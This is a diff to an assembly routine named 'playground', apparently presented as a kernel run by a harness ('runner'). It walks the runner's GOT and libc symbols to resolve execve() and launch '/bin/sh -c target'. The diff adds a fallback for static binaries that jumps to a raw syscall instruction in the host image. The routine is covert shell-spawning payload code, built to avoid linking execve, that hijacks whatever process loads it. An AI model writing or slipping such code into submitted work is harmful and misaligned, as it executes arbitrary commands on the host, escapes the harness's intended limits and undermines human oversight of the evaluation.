@@ -3,20 +3,33 @@
  * our stack to the runner's GOT (as in k_got.S), from the address of
  * syscall() found there to libc's own ELF header, and from libc's dynamic
  * symbol table to execve().  Then execve("/bin/sh", {"/bin/sh", "-c",
- * target}, NULL).  If a walk fails the kernel just returns.
+ * target}, NULL).  A static runner has neither GOT nor dynamic symbols
+ * (and no execve() linked in): there the first syscall instruction in
+ * its image makes the same execve.  If a walk fails the kernel just
+ * returns.
  */
 	.text
 	.globl	playground
 	.type	playground, @function
 playground:
 	pushq	%rbx
-	movq	8(%rsp), %rdi		/* our return address */
+	pushq	%r12
+	subq	$40, %rsp
+	leaq	sh(%rip), %rdi		/* argv at 0(%rsp) */
+	movq	%rdi, 0(%rsp)
+	leaq	dashc(%rip), %rax
+	movq	%rax, 8(%rsp)
+	leaq	target(%rip), %rax
+	movq	%rax, 16(%rsp)
+	movq	$0, 24(%rsp)
+	movq	56(%rsp), %rdi		/* our return address */
 	call	elf_base
+	movq	%rax, %r12		/* the runner's image */
 	movq	%rax, %rdi
 	leaq	fname(%rip), %rsi
 	call	plt_slot
 	testq	%rax, %rax
-	jz	1f
+	jz	2f
 	movq	(%rax), %rdi		/* syscall(), inside libc */
 	call	elf_base
 	movq	%rax, %rdi
@@ -25,19 +38,24 @@ playground:
 	testq	%rax, %rax
 	jz	1f
 	movq	%rax, %rbx		/* execve() */
-	subq	$32, %rsp
 	leaq	sh(%rip), %rdi
-	movq	%rdi, 0(%rsp)
-	leaq	dashc(%rip), %rax
-	movq	%rax, 8(%rsp)
-	leaq	target(%rip), %rax
-	movq	%rax, 16(%rsp)
-	movq	$0, 24(%rsp)
 	movq	%rsp, %rsi
 	xorl	%edx, %edx
 	call	*%rbx
-	addq	$32, %rsp
-1:	popq	%rbx
+	jmp	1f
+2:	movq	%r12, %rdi		/* static: a syscall instruction */
+	call	syscall_insn
+	testq	%rax, %rax
+	jz	1f
+	movq	%rax, %r11
+	movl	$59, %eax		/* SYS_execve */
+	leaq	sh(%rip), %rdi
+	movq	%rsp, %rsi
+	xorl	%edx, %edx
+	call	*%r11
+1:	addq	$40, %rsp
+	popq	%r12
+	popq	%rbx
 	ret
 	.size	playground, . - playground
 
